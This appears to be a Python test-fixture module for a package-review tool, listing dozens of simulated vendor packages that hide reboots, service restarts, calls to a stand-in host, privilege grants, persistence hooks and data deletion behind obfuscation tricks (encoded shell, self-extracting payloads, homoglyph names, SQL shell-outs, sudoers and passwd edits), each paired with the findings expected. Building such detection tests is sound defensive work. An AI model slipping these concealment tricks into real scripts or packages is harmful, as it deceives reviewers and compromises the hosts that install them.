"""Packages that a sly or sloppy vendor could send: each hides from a reader what it does, by one trick.

``PACKAGES``: name -> files (path, content, mode) and the facts that have to be found all the same. Nothing of it is ever run.
"""

from __future__ import annotations

import base64
import gzip
import io
import tarfile
from typing import Any

File = tuple[str, bytes | str, int]
Expected = tuple[str, dict[str, Any]]  #: family of the fact, and some of its fields

PACKAGES: dict[str, tuple[list[File], list[Expected]]] = {}


def sh(
    name: str,
    body: str,
    *expected: Expected,
    path: str = "install.sh",
    more: tuple[File, ...] = (),
    head: str = "#!/bin/sh\n",
) -> None:
    """A script, with what else lies beside it."""
    PACKAGES[name] = ([(path, head + body, 0o755), *more], list(expected))


def restart(unit: str, action: str) -> Expected:
    return "Restart", {"unit": unit, "action": action}


R = ("Reboot", {"claim": "performed"})

sh(
    "cron-hourly-env-i",
    """cat > /etc/cron.hourly/tidy <<'EOS'
#!/bin/sh
env -i bash -c 'systemctl restart ledger; reboot'
EOS
chmod +x /etc/cron.hourly/tidy
""",
    R,
    restart("ledger", "restart"),
    ("Schedule", {"mechanism": "cron.hourly"}),
)
sh("variable-built", "r=re\n${r}boot\n", R)
sh("variable-built-2", 'a=sys b=temctl\n$a$b restart ledger\nx="re""boot"; "$x"\n', R, restart("ledger", "restart"))
sh("quotes-inside-word", "r''eb\"o\"ot\nsys\\temctl restart led'ger'\n", R, restart("ledger", "restart"))
sh("printf-b", "printf '%b' '\\162\\145\\142\\157\\157\\164\\n' | sh\n", R)
sh("printf-octal-format", "$(printf '\\162\\145\\142\\157\\157\\164')\n", R)
sh("printf-hex", "eval \"$(printf '\\x72\\x65\\x62\\x6f\\x6f\\x74')\"\n", R, head="#!/bin/bash\n")
sh("echo-e", "echo -e '\\x72eboot' | bash\n", R, head="#!/bin/bash\n")
sh("ansi-c", "$'\\x72\\145boot'\n", R, head="#!/bin/bash\n")
sh("eval-cat-file", 'eval "$(cat x)"\n', R, more=(("x", "reboot\n", 0o644),))
sh(
    "eval-cat-file-dir",
    'eval "$(cat "$(dirname "$0")/lib/x.dat")"\n',
    R,
    more=(("lib/x.dat", "sleep 1\nreboot\n", 0o644),),
)
sh("eval-input-redirect", 'eval "$(< ./x)"\n', R, more=(("x", "reboot\n", 0o644),), head="#!/bin/bash\n")
sh("sh-from-file", "sh < ./steps.txt\n", R, more=(("steps.txt", "reboot\n", 0o644),))
sh("cat-file-pipe-sh", "cat ./steps.txt | sh\n", R, more=(("steps.txt", "reboot\n", 0o644),))
sh("source-txt", ". ./NOTES.txt\n", R, more=(("NOTES.txt", "systemctl stop ledger\nreboot\n", 0o644),))
sh("source-txt-dirname", '. "$(dirname "$0")/NOTES.txt"\n', R, more=(("NOTES.txt", "echo hi\nreboot\n", 0o644),))
sh("sh-runs-dat", "sh ./payload.dat\n", R, more=(("payload.dat", "reboot\n", 0o644),))
sh("xxd", "echo 7265626f6f740a | xxd -r -p | sh\n", R)
sh("rot13", "echo erobbg | tr a-z n-za-m | sh\n", R)
sh("rot13-2", "echo 'flfgrzpgy erfgneg yrqtre' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash\n", restart("ledger", "restart"))
sh("rev", "echo toober | rev | sh\n", R)
sh("sed-made", "echo 'XXboot' | sed 's/XX/re/' | sh\n", R)
sh(
    "gz-b64",
    "echo {} | base64 -d | gunzip | sh\n".format(base64.b64encode(gzip.compress(b"reboot\n", mtime=0)).decode()),
    R,
)
sh(
    "zcat-b64",
    "base64 -d <<EOF | zcat | sh\n{}\nEOF\n".format(
        base64.b64encode(gzip.compress(b"systemctl restart ledger\n", mtime=0)).decode()
    ),
    restart("ledger", "restart"),
)
sh("heredoc-b64", "base64 -d << 'EOF' | bash\n{}\nEOF\necho done\n".format(base64.b64encode(b"reboot\n").decode()), R)


def tgz(files: list[File]) -> bytes:
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w:gz") as archive:
        for name, content, mode in files:
            data = content if isinstance(content, bytes) else content.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            archive.addfile(info, io.BytesIO(data))
    return into.getvalue()


PACKAGES["payload-after-exit"] = (
    [
        (
            "install.run",
            b"#!/bin/sh\nsed '1,/^__END__$/d' \"$0\" | tar xz -C /opt/app\n/opt/app/post.sh\nexit 0\n__END__\n"
            + tgz([("post.sh", "#!/bin/sh\nreboot\n", 0o755), ("cron", "* * * * * root /opt/x\n", 0o644)]),
            0o755,
        )
    ],
    [R],
)
PACKAGES["payload-b64-after-exit"] = (
    [
        (
            "install.sh",
            b"#!/bin/sh\nsed '1,/^__END__$/d' \"$0\" | base64 -d | tar xz -C /opt/app\n/opt/app/post.sh\nexit 0\n__END__\n"
            + base64.encodebytes(tgz([("post.sh", "#!/bin/sh\nreboot\n", 0o755)])),
            0o755,
        )
    ],
    [("Unread", {"needed": True})],
)
sh("busybox", "busybox reboot -f\n", R)
sh("busybox-sh", "/bin/busybox sh -c 'reboot'\n", R)
sh(
    "busybox-crond",
    "echo '5 * * * * curl http://in.vendor.example/x' | busybox crontab -\n",
    ("Schedule", {}),
    ("Endpoint", {"host": "in.vendor.example"}),
)
sh("toybox", "toybox reboot\n", R)
sh("nsenter", "nsenter -t 1 -m -u -i -n -p -- reboot\n", R)
sh("nsenter-2", "nsenter --target 1 --mount sh -c 'systemctl restart ledger'\n", restart("ledger", "restart"))
sh("chroot-host", "chroot /host systemctl restart ledger\n", restart("ledger", "restart"))
sh("chroot-host-sh", "chroot /host /bin/sh <<EOF\nsystemctl restart ledger\nEOF\n", restart("ledger", "restart"))
sh(
    "sudo-i-heredoc",
    "sudo -i -u app sh <<EOF\nsystemctl --user restart ledger\nEOF\nsudo -iu root bash -s <<'EOT'\nreboot\nEOT\n",
    R,
    restart("ledger", "restart"),
)
sh("sudo-reboot", "sudo -n -- /sbin/reboot\n", R)
sh("sudo-s", "sudo -s <<EOF\nreboot\nEOF\n", R)
sh("su-heredoc", "su - <<EOF\nreboot\nEOF\n", R)
sh("su-minus-c", "su -l root -c 'reboot'\n", R)
sh("machinectl", "machinectl shell root@.host /bin/systemctl restart ledger\n", restart("ledger", "restart"))
sh("unshare", "unshare -m sh -c 'reboot'\n", R)
sh("script-c", "script -qc 'reboot' /dev/null\n", R)
sh("parallel", "parallel systemctl restart ::: ledger\n", restart("ledger", "restart"))
sh("nohup-setsid", "nohup setsid sh -c 'sleep 60; reboot' >/dev/null 2>&1 &\n", R)
sh("subshell-bg", "( sleep 300; reboot ) &\n", R)
sh("trap-signal", "trap 'reboot' TERM INT\nkill $$\n", R)
sh("alias", "alias go=reboot\ngo\n", R)
sh("function-name", "ls() { reboot; }\nls\n", R)
sh("array-run", "c=(sh -c 'reboot')\n\"${c[@]}\"\n", R, head="#!/bin/bash\n")
sh("indirect", "x=reboot; y=x; ${!y}\n", R, head="#!/bin/bash\n")
sh("glob-command", "/sbin/reb??t\n", ("Unread", {"needed": True}))
sh("ifs", "c='reboot,-f'; IFS=,; $c\n", R)
sh("cut", "cmd=$(echo xrebootx | cut -c2-7); $cmd\n", R)
sh("case-op", "x=REBOOT; ${x,,}\n", R, head="#!/bin/bash\n")
sh("python-c-in-sh", "python3 -c \"__import__('os').system('re'+'boot')\"\n", R)
sh("python-b64", "python3 -c \"import base64,os;os.system(base64.b64decode('cmVib290').decode())\"\n", R)
sh("perl-e", 'perl -e \'system("re"."boot")\'\n', R)
sh("awk-system", "awk 'BEGIN{system(\"reboot\")}'\n", R)
sh("awk-pipe", 'echo x | awk \'{print "reboot" | "sh"}\'\n', R)
sh("find-exec", "find / -maxdepth 0 -exec reboot \\;\n", R)
sh("git-alias", "git -c alias.x='!reboot' x\n", R)
sh("ssh-localhost", "ssh root@localhost reboot\n", R)
sh("sysrq", "echo b > /proc/sysrq-trigger\n", R)
sh("sysrq-tee", "echo b | sudo tee /proc/sysrq-trigger\n", R)
sh(
    "dbus",
    "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager Reboot b false\n",
    R,
)
sh(
    "gdbus",
    "gdbus call --system --dest org.freedesktop.login1 --object-path /org/freedesktop/login1 --method org.freedesktop.login1.Manager.Reboot true\n",
    R,
)
sh("kill-1", "kill -INT 1\n", ("Reboot", {}))
sh("rtcwake", "rtcwake -m off -s 60\n", ("Reboot", {}))
sh("shutdown-at", "shutdown -r +5 &\n", R)
sh("at-now", "echo reboot | at now + 5 minutes\n", R, ("Schedule", {"mechanism": "at"}))
sh(
    "at-heredoc",
    "at now + 5 minutes <<EOF\nsystemctl restart ledger\nEOF\n",
    restart("ledger", "restart"),
    ("Schedule", {"mechanism": "at"}),
)
sh(
    "at-f",
    "at -f ./later.txt midnight\n",
    R,
    ("Schedule", {"mechanism": "at"}),
    more=(("later.txt", "reboot\n", 0o644),),
)
sh(
    "systemd-run-cal",
    "systemd-run --on-calendar='*-*-* 03:00' /sbin/reboot\n",
    R,
    ("Schedule", {"mechanism": "systemd-run"}),
)
sh(
    "systemd-run-active",
    "systemd-run --on-active=5m --unit=later -- sh -c 'systemctl restart ledger'\n",
    restart("ledger", "restart"),
    ("Schedule", {"mechanism": "systemd-run"}),
)
sh("mask-via-ln", "ln -sf /dev/null /etc/systemd/system/ledger.service\n", restart("ledger", "mask"))
# things that act later


def payload(
    name: str, path: str, text: bytes | str, *expected: Expected, mode: int = 0o644, more: tuple[File, ...] = ()
) -> None:
    """A file that acts where it will stand on the host."""
    PACKAGES[name] = ([("root" + path, text, mode), *more], list(expected))


payload(
    "unit-poststart",
    "/etc/systemd/system/ledgerd.service",
    "[Unit]\nDescription=x\n[Service]\nExecStart=/opt/app/d\nExecStartPost=/bin/sh -c 'reboot'\n",
    R,
)
payload(
    "unit-onfailure",
    "/etc/systemd/system/ledgerd.service",
    "[Unit]\nOnFailure=oops.service\nFailureAction=reboot-force\nStartLimitAction=reboot\n[Service]\nExecStart=/opt/app/d\n",
    ("Reboot", {}),
    more=(("root/etc/systemd/system/oops.service", "[Service]\nType=oneshot\nExecStart=/sbin/reboot\n", 0o644),),
)
payload(
    "unit-onfailure-only",
    "/etc/systemd/system/ledgerd.service",
    "[Unit]\nOnFailure=reboot.target\n[Service]\nExecStart=/opt/app/d\nWatchdogSec=10\n",
    ("Reboot", {}),
)
payload(
    "unit-dropin",
    "/etc/systemd/system/ssh.service.d/10-vendor.conf",
    "[Service]\nExecStartPre=/bin/sh -c 'curl http://in.vendor.example/ping'\n",
    ("Endpoint", {"host": "in.vendor.example"}),
)
payload(
    "path-unit",
    "/etc/systemd/system/watch.path",
    "[Path]\nPathChanged=/etc/passwd\nUnit=watch.service\n",
    R,
    more=(("root/etc/systemd/system/watch.service", "[Service]\nExecStart=/sbin/reboot\n", 0o644),),
)
payload(
    "udev-rule",
    "/etc/udev/rules.d/99-x.rules",
    'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \'curl http://in.vendor.example/usb\'"\n',
    ("Endpoint", {"host": "in.vendor.example"}),
)
payload(
    "nm-dispatcher",
    "/etc/NetworkManager/dispatcher.d/50-x",
    "#!/bin/sh\ncurl http://in.vendor.example/net\n",
    ("Endpoint", {"host": "in.vendor.example"}),
    mode=0o755,
)
payload(
    "profile-d",
    "/etc/profile.d/x.sh",
    "curl -s http://in.vendor.example/login\n",
    ("Endpoint", {"host": "in.vendor.example"}),
)
payload(
    "apt-hook",
    "/etc/apt/apt.conf.d/99x",
    'DPkg::Post-Invoke { "curl -s http://in.vendor.example/apt; reboot"; };\n',
    ("Endpoint", {"host": "in.vendor.example"}),
    R,
)
payload(
    "logrotate",
    "/etc/logrotate.d/app",
    "/var/log/app/*.log {\n  daily\n  postrotate\n    systemctl reload ledger\n    curl http://in.vendor.example/rot\n  endscript\n}\n",
    ("Endpoint", {"host": "in.vendor.example", "evidence": {"when": "when logs are rotated"}}),
    restart("ledger", "reload"),
)
payload("pam-exec", "/etc/pam.d/sshd", "auth optional pam_exec.so seteuid /usr/local/bin/seen.sh\n", ("Privilege", {}))
payload("ld-preload", "/etc/ld.so.preload", "/usr/lib/libhook.so\n", ("Privilege", {"how": "preloaded library"}))
payload("sudoers", "/etc/sudoers.d/app", "app ALL=(ALL) NOPASSWD: ALL\n", ("Privilege", {"how": "sudoers"}))
payload(
    "polkit",
    "/etc/polkit-1/rules.d/10-app.rules",
    "polkit.addRule(function(action, subject) { if (subject.user == 'app') return polkit.Result.YES; });\n",
    ("Privilege", {}),
)
payload(
    "sshd-dropin",
    "/etc/ssh/sshd_config.d/10-app.conf",
    "PermitRootLogin yes\nPasswordAuthentication yes\n",
    ("Privilege", {"how": "ssh access"}),
)
payload(
    "modprobe-install",
    "/etc/modprobe.d/x.conf",
    "install dummy /bin/sh -c 'curl http://in.vendor.example/mod'\n",
    ("Endpoint", {"host": "in.vendor.example"}),
)
payload(
    "git-hook",
    "/opt/app/.git/hooks/post-merge",
    "#!/bin/sh\nsystemctl restart ledger\n",
    restart("ledger", "restart"),
    mode=0o755,
)
payload(
    "motd",
    "/etc/update-motd.d/99-x",
    "#!/bin/sh\ncurl -s http://in.vendor.example/motd\n",
    ("Endpoint", {"host": "in.vendor.example"}),
    mode=0o755,
)
payload("sysctl", "/etc/sysctl.d/99-app.conf", "kernel.panic=10\nnet.ipv4.ip_forward=1\n")
payload("xinetd", "/etc/xinetd.d/x", "service x\n{\n server = /bin/sh\n server_args = -c reboot\n}\n")
payload("anacron-in-payload", "/etc/anacrontab", "1 5 nightly /opt/app/nightly.sh\n", ("Schedule", {}))
payload("cron-daily-bin", "/etc/cron.daily/app", b"\x7fELF" + b"\0" * 200, ("Schedule", {}), mode=0o755)
payload(
    "tmpfiles",
    "/usr/lib/tmpfiles.d/app.conf",
    "R! /var/lib/ledger - - - - -\nd /run/app 0777 root root -\n",
    ("FileEffect", {"action": "delete"}),
)
payload("initramfs-hook", "/etc/kernel/postinst.d/zz-app", "#!/bin/sh\nreboot\n", R, mode=0o755)
payload(
    "rc-local",
    "/etc/rc.local",
    "#!/bin/sh\ncurl http://in.vendor.example/boot\nexit 0\n",
    ("Endpoint", {"host": "in.vendor.example"}),
    mode=0o755,
)
payload(
    "xdg-autostart",
    "/etc/xdg/autostart/app.desktop",
    "[Desktop Entry]\nType=Application\nName=App\nExec=sh -c 'curl http://in.vendor.example/desk'\n",
    ("Endpoint", {"host": "in.vendor.example"}),
)
PACKAGES["npm-prepare"] = (
    [
        (
            "package/package.json",
            '{"name":"x","version":"1.0.0","scripts":{"prepare":"curl http://in.vendor.example/p | sh","prepack":"true"}}',
            0o644,
        )
    ],
    [("Endpoint", {"host": "in.vendor.example"})],
)
PACKAGES["npm-gyp"] = (
    [
        ("package/package.json", '{"name":"x","version":"1.0.0"}', 0o644),
        (
            "package/binding.gyp",
            '{"targets":[{"target_name":"x","actions":[{"action_name":"a","inputs":[],"outputs":["x"],"action":["sh","-c","curl http://in.vendor.example/g"]}]}]}',
            0o644,
        ),
    ],
    [("Endpoint", {"host": "in.vendor.example"})],
)
PACKAGES["setup-cmdclass"] = (
    [
        (
            "x-1.0/setup.py",
            "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        install.run(self)\n        os.system('systemctl restart ledger')\nsetup(name='x', version='1.0', cmdclass={'install': I})\n",
            0o644,
        ),
        ("x-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n", 0o644),
    ],
    [restart("ledger", "restart")],
)
sh("crlf", "systemctl restart ledger\r\nreboot\r\n", R, restart("ledger", "restart"), head="#!/bin/sh\r\n")
PACKAGES["utf16-sh"] = ([("install.sh", "\ufeff#!/bin/sh\nreboot\n".encode("utf-16-le"), 0o755)], [R])
PACKAGES["utf16-bat"] = ([("install.cmd", "\ufeff@echo off\r\nshutdown /r /t 0\r\n".encode("utf-16-le"), 0o644)], [R])
PACKAGES["utf16-ps1"] = ([("install.ps1", "\ufeffRestart-Computer -Force\r\n".encode("utf-16-le"), 0o644)], [R])
PACKAGES["utf8-bom-sh"] = ([("install.sh", "\ufeff#!/bin/sh\nreboot\n".encode(), 0o755)], [R])
PACKAGES["cr-only"] = ([("install.sh", "#!/bin/sh\rreboot\r", 0o755)], [])
PACKAGES["no-shebang-no-suffix"] = ([("upgrade", "systemctl stop ledger\nreboot\n", 0o755)], [R])
PACKAGES["shebang-env-S"] = ([("upgrade", "#!/usr/bin/env -S bash -eu\nreboot\n", 0o755)], [R])
PACKAGES["shebang-odd"] = ([("upgrade", "#!/opt/app/bin/bash5\nreboot\n", 0o755)], [R])
PACKAGES["two-manifests"] = (
    [
        ("MANIFEST.yaml", "product: app\nversion: 4.2.0\n", 0o644),
        ("manifest.json", '{"name":"app","version":"4.1.9"}', 0o644),
    ],
    [("Release", {"version": "4.2.0"}), ("Release", {"version": "4.1.9"})],
)
PACKAGES["homoglyph"] = (
    [
        ("install.sh", "#!/bin/sh\n./updаte.sh\n", 0o755),
        ("updаte.sh", "#!/bin/sh\nreboot\n", 0o755),
        ("update.sh", "#!/bin/sh\necho fine\n", 0o755),
    ],
    [R],
)
PACKAGES["rtl-name"] = ([("invoice\u202egpj.sh", "#!/bin/sh\nreboot\n", 0o755)], [R])


PACKAGES["jar-class-path"] = (
    [
        (
            "root/META-INF/MANIFEST.MF",
            "Manifest-Version: 1.0\r\nClass-Path: lib/a.jar http://in.vendor.exam\r\n ple/x.jar\r\n\r\n",
            0o644,
        )
    ],
    [("Endpoint", {"host": "in.vendor.example"})],
)

PGHEAD = "CREATE TABLE marks (id bigserial PRIMARY KEY, at timestamptz);\n"


def sql(name: str, text: str, *expected: Expected) -> None:
    PACKAGES[name] = ([("migrations/0002_x.sql", PGHEAD + text, 0o644)], list(expected))


def effect(kind: str) -> Expected:
    return "Migration", {"effects": [{"kind": kind}]}


sql(
    "copy-program",
    "COPY marks TO PROGRAM 'curl -d @- http://in.vendor.example/rows';\n",
    effect("rights"),
    ("Endpoint", {"host": "in.vendor.example"}),
)
sql("copy-query-program", "COPY (SELECT 1) TO PROGRAM 'sh -c reboot';\n", effect("rights"), R)
sql("plpython3u", "CREATE EXTENSION IF NOT EXISTS plpython3u;\n", effect("rights"))
sql(
    "alter-system",
    "ALTER SYSTEM SET archive_command = 'curl http://in.vendor.example/%f';\nSELECT pg_reload_conf();\n",
    effect("rights"),
)
sql("pg-read-file", "INSERT INTO marks SELECT 1, pg_read_file('/etc/passwd')::timestamptz;\n", effect("rights"))
sql("lo-export", "SELECT lo_export(1, '/etc/cron.d/x');\n", effect("rights"))
sql(
    "dblink",
    "SELECT * FROM dblink('host=old-db.vendor.example user=app password=s3cret dbname=x', 'SELECT 1') AS t(a int);\n",
    ("Endpoint", {"host": "old-db.vendor.example"}),
)
sql("dblink-exec", "SELECT dblink_exec('host=127.0.0.1 dbname=x', 'DROP TABLE ledger');\n", ("Migration", {}))
sql(
    "fdw",
    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'old-db.vendor.example', port '5433');\n",
    ("Endpoint", {"host": "old-db.vendor.example"}),
)
sql(
    "subscription",
    "CREATE SUBSCRIPTION s CONNECTION 'host=old-db.vendor.example dbname=x' PUBLICATION p;\n",
    ("Endpoint", {"host": "old-db.vendor.example"}),
)
sql(
    "terminate",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid();\n",
    ("Migration", {"effects": [{}]}),
)
sql(
    "cte-delete",
    "WITH gone AS (DELETE FROM ledger RETURNING *) INSERT INTO marks SELECT 1 FROM gone;\n",
    ("Migration", {"effects": [{"kind": "lost"}]}),
)
sql(
    "cte-delete-2",
    "WITH a AS (SELECT 1), gone AS (DELETE FROM ledger RETURNING id) SELECT count(*) FROM gone;\n",
    ("Migration", {"effects": [{"kind": "lost"}]}),
)
sql(
    "delete-where-true",
    "DELETE FROM ledger WHERE true;\nDELETE FROM people WHERE 1=1;\nUPDATE rows_ SET a=NULL WHERE 1 = 1;\n",
    ("Migration", {"effects": [{"kind": "lost"}, {"kind": "lost"}, {"kind": "every row"}]}),
)
sql("owned-drop", "DROP OWNED BY app CASCADE;\n", ("Migration", {"effects": [{"kind": "lost"}]}))
sql("alter-role", "ALTER ROLE app SUPERUSER;\n", effect("rights"))
sql("alter-database", "ALTER DATABASE app SET search_path = evil, public;\n", ("Migration", {"effects": [{}]}))
sql(
    "disable-rls",
    "ALTER TABLE ledger DISABLE ROW LEVEL SECURITY;\nGRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC;\n",
    ("Migration", {"effects": [{}, {}]}),
)
sql(
    "security-definer",
    "CREATE FUNCTION f() RETURNS void SECURITY DEFINER AS $$ BEGIN DELETE FROM ledger; END $$ LANGUAGE plpgsql;\n",
)
sql("event-trigger", "CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION f();\n", effect("rights"))
sql(
    "pg-cron",
    "SELECT cron.schedule('x', '5 * * * *', $$DELETE FROM ledger$$);\n",
    ("Schedule", {"mechanism": "pg_cron"}),
)
sql(
    "psql-shell",
    "\\! reboot\n\\copy marks to program 'curl http://in.vendor.example/c'\n",
    R,
    ("Endpoint", {"host": "in.vendor.example"}),
)
sql(
    "psql-gexec",
    "SELECT 'DROP TABLE ' || tablename FROM pg_tables WHERE schemaname='public' \\gexec\n",
    ("Unread", {"needed": True}),
)
sql("psql-o-pipe", "SELECT 1 \\g |sh\n\\o |reboot\n", R)
sql("psql-i", "\\i ../lib/extra.txt\n", ("Unread", {}))
MY = "CREATE TABLE `m` (`id` int AUTO_INCREMENT PRIMARY KEY) ENGINE=InnoDB;\n"


def my(name: str, text: str, *expected: Expected) -> None:
    PACKAGES[name] = ([("migrations/0002_m.sql", MY + text, 0o644)], list(expected))


my("load-local", "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE `m`;\n", effect("rights"))
my("outfile", "SELECT * FROM `users` INTO OUTFILE '/var/www/html/x.php';\n", effect("rights"))
my(
    "event",
    "CREATE EVENT e ON SCHEDULE EVERY 1 HOUR DO DELETE FROM `ledger`;\nSET GLOBAL event_scheduler = ON;\n",
    ("Schedule", {}),
    effect("rights"),
)
my("mysql-system", "\\! reboot\nsystem reboot\n", R)
my("mysql-conditional-comment", "/*!50001 DROP TABLE `ledger` */;\n", ("Migration", {"effects": [{"kind": "lost"}]}))
my("mysql-multi-table-delete", "DELETE l FROM `ledger` l JOIN `m` ON 1=1;\n", ("Migration", {"effects": [{}]}))
my(
    "mysql-replace",
    "REPLACE INTO `ledger` SELECT * FROM `m`;\nUPDATE `people` SET a=1 LIMIT 100000000;\n",
    ("Migration", {"effects": [{}, {}]}),
)
my("mysql-source", "source ../lib/extra.txt\n", ("Unread", {}))
my(
    "mysql-plugin",
    "INSTALL PLUGIN x SONAME 'x.so';\nCREATE FUNCTION sys_exec RETURNS int SONAME 'udf.so';\n",
    effect("rights"),
)
sql("mssql-xp", "EXEC xp_cmdshell 'shutdown /r /t 0';\nGO\n", R)


EP: Expected = ("Endpoint", {"host": "in.vendor.example"})
sh("heredoc-into-su", "su app -c sh <<'EOF'\ncurl http://in.vendor.example/x\nEOF\n", EP)
sh(
    "func-in-other-file",
    ". ./lib.sh\ngo now\n",
    R,
    more=(("lib.sh", "go() { case $1 in now) reboot;; esac; }\n", 0o644),),
)
sh("case-default", "case ${1:-x} in stop) :;; *) reboot;; esac\n", R)
sh("loop-words", "for c in 'systemctl restart ledger' reboot; do $c; done\n", R, restart("ledger", "restart"))
sh(
    "while-read-cmds",
    'while read -r c; do eval "$c"; done <<EOF\nsystemctl stop ledger\nreboot\nEOF\n',
    R,
    restart("ledger", "stop"),
)
sh("while-read-file", "while read -r c; do $c; done < steps\n", R, more=(("steps", "reboot\n", 0o644),))
sh("xargs-sh", "echo reboot | xargs -I{} sh -c {}\n", R)
sh("xargs-n1", "printf 'ledger\\n' | xargs -n1 systemctl restart\n", restart("ledger", "restart"))
sh(
    "tee-cron",
    "echo '* * * * * root curl http://in.vendor.example/x' | sudo tee /etc/cron.d/x >/dev/null\n",
    EP,
    ("Schedule", {}),
)
sh(
    "dd-heredoc",
    "dd of=/etc/cron.d/x <<EOF\n* * * * * root curl http://in.vendor.example/x\nEOF\n",
    ("Schedule", {}),
    EP,
)
sh("sed-i-crontab", "sed -i '$a 5 * * * * root /opt/app/x.sh' /etc/crontab\n", ("FileEffect", {"path": "/etc/crontab"}))
sh(
    "install-heredoc",
    "install -m 644 /dev/stdin /etc/cron.d/x <<EOF\n* * * * * root curl http://in.vendor.example/x\nEOF\n",
    ("Schedule", {}),
    EP,
)
sh(
    "cp-udev",
    "cp files/99-x.rules /etc/udev/rules.d/\n",
    EP,
    more=(("files/99-x.rules", 'ACTION=="add", RUN+="/usr/bin/curl http://in.vendor.example/x"\n', 0o644),),
)
sh(
    "cp-unit",
    "cp files/x.service /etc/systemd/system/x.service\nsystemctl enable --now x\n",
    R,
    more=(("files/x.service", "[Service]\nExecStart=/sbin/reboot\n", 0o644),),
)
sh(
    "cp-cron-daily",
    "install -m755 files/x /etc/cron.daily/x\n",
    R,
    ("Schedule", {}),
    more=(("files/x", "reboot\n", 0o644),),
)
sh("ln-cron", "ln -s /opt/app/x /etc/cron.hourly/x\n", ("Schedule", {}))
sh(
    "write-udev",
    "cat > /etc/udev/rules.d/99-x.rules <<'EOF'\nACTION==\"add\", RUN+=\"/bin/sh -c 'curl http://in.vendor.example/u'\"\nEOF\n",
    EP,
)
sh("write-apt", "echo 'DPkg::Post-Invoke {\"reboot\";};' > /etc/apt/apt.conf.d/99x\n", R)
sh("prompt-command", "echo 'curl http://in.vendor.example/p' >> ~/.bashrc\n", EP)
sh("proc-sub", "bash <(echo reboot)\n", R, head="#!/bin/bash\n")
sh("source-proc-sub", ". <(echo reboot)\n", R, head="#!/bin/bash\n")
sh("source-stdin", "echo reboot | . /dev/stdin\n", R)
sh("herestring", "bash <<< reboot\n", R, head="#!/bin/bash\n")
sh("command-v", "$(command -v reboot)\n", R)
sh("which", "`which reboot` -f\n", R)
sh("type-path", "PATH=/opt/x:$PATH; /usr/bin/env reboot\n", R)
sh("cond-date", "[ $(date +%u) -eq 7 ] && reboot\n", R)
sh("curl-pipe-sudo", "curl -s https://in.vendor.example/i | sudo -E bash -\n", EP, ("Unread", {"needed": True}))
sh("wget-then-run", "wget -qO /tmp/i https://in.vendor.example/i && sh /tmp/i\n", EP, ("Hazard", {}))
sh("pip-url", "pip install git+https://in.vendor.example/x.git\n", EP)
sh("npm-registry", "npm i --registry http://in.vendor.example x\n", EP)
sh("ansible", "ansible all -m reboot\n", ("Reboot", {}))
sh("salt-call", "salt-call system.reboot\n", ("Reboot", {}))
sh("unset-secure", "setenforce 0; systemctl disable --now auditd firewalld\n", restart("auditd", "stop"))
sh("iptables", "iptables -F; ufw disable\n", ("Hazard", {}))
sh("chattr", "chattr -i /etc/passwd; echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd\n", ("Privilege", {"how": "accounts"}))
sh(
    "crlf-heredoc",
    "cat > /etc/cron.d/x <<EOF\r\n* * * * * root curl http://in.vendor.example/x\r\nEOF\r\n",
    ("Schedule", {}),
    head="#!/bin/sh\r\n",
)
sh("ruby-e", "ruby -e 'system(\"reboot\")'\n", R)
sh("php-r", "php -r 'system(\"reboot\");'\n", R)
sh("psql-c", "psql -c \"COPY t TO PROGRAM 'curl http://in.vendor.example/x'\"\n", EP)
sh("psql-heredoc", "psql <<'EOF'\n\\! reboot\nDROP TABLE ledger;\nEOF\n", R)
sh("mysql-e", "mysql -e 'system reboot'\n", R)
sh("tar-checkpoint", "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='reboot'\n", R)
sh("panic", "sysctl -w kernel.panic=1; echo c > /proc/sysrq-trigger\n", ("Reboot", {}))
